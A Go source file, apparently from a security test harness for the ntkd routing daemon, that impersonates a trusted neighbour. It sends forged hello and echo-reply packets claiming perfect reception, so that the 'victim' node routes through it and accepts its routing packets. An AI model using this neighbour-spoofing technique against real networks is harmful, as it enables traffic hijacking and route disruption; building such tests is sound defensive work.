package main

import (
	"context"
	"net/netip"
	"sync/atomic"
	"time"

	"github.com/ntkd/ntkd/internal/ctl"
	"github.com/ntkd/ntkd/internal/wire"
)

// claim is what the main identity says it is in its echoes.
type claim struct {
	addr  netip.Addr
	nonce uint32
}

// neighbour makes the main identity (mainLL) look like a hooked ntkd
// neighbour of the victim: it sends hellos every 500 ms that say it hears
// the victim perfectly, and answers the victim's probes, so the victim
// measures it, routes to it and accepts its QSPN, ROUTE_LOSS and ROUTED
// packets. It runs until ctx ends.
type neighbour struct {
	w       *world
	claim   atomic.Pointer[claim]
	replies atomic.Uint64
	hellos  atomic.Uint64
}

func (n *neighbour) run(ctx context.Context) {
	w := n.w
	go func() {
		buf := make([]byte, 4096)
		var dec wire.Decoder
		for {
			k, from, err := w.main.ReadFromUDPAddrPort(buf)
			if err != nil {
				if ctx.Err() != nil {
					return
				}
				continue
			}
			h, p, err := dec.Decode(buf[:k])
			if err != nil {
				continue
			}
			e, ok := p.(*wire.Echo)
			if !ok || e.Kind != wire.OpEchoMe || (e.Flags&wire.EchoHello != 0 && e.Flags&wire.EchoReplyWanted == 0) {
				continue
			}
			c := n.claim.Load()
			r := &wire.Echo{Kind: wire.OpEchoReply, Burst: e.Burst, Seq: e.Seq, Flags: e.Flags & wire.EchoHello,
				Nonce: c.nonce, Lowest: w.topNonce, Addr: c.addr}
			b, err := wire.Encode(h.ID, r)
			if err == nil {
				w.main.WriteToUDPAddrPort(b, netip.AddrPortFrom(from.Addr(), wire.DefaultPort))
				n.replies.Add(1)
			}
		}
	}()
	go func() { <-ctx.Done(); w.main.Close() }()
	t := time.NewTicker(500 * time.Millisecond)
	defer t.Stop()
	dst := udpAddr(netip.MustParseAddr("ff02::1"), wire.DefaultPort)
	var num uint32
	for {
		c := n.claim.Load()
		num++
		e := &wire.Echo{Kind: wire.OpEchoMe, Burst: uint16(num >> 8), Seq: uint8(num), Flags: wire.EchoHello,
			Nonce: c.nonce, Lowest: w.topNonce, Addr: c.addr, Interval: 50,
			IHU: []wire.IHU{{Nonce: w.victimNonce, Heard: wire.MaxIHUHeard}}}
		if b, err := wire.Encode(0, e); err == nil {
			w.main.WriteToUDP(b, dst)
			n.hellos.Add(1)
		}
		select {
		case <-ctx.Done():
			return
		case <-t.C:
		}
	}
}

// measured says whether the victim has the main identity as an alive,
// measured neighbour.
func (w *world) measured(ctx context.Context) (bool, error) {
	var nbs []ctl.Neighbour
	if _, err := ctl.Call(ctx, w.victim.Socket, ctl.Request{Cmd: ctl.CmdNeighbours}, &nbs); err != nil {
		return false, err
	}
	for _, nb := range nbs {
		if nb.LinkLocal == mainLL.String() && nb.State == "alive" && nb.Cost > 0 && !nb.Hooking {
			return true, nil
		}
	}
	return false, nil
}
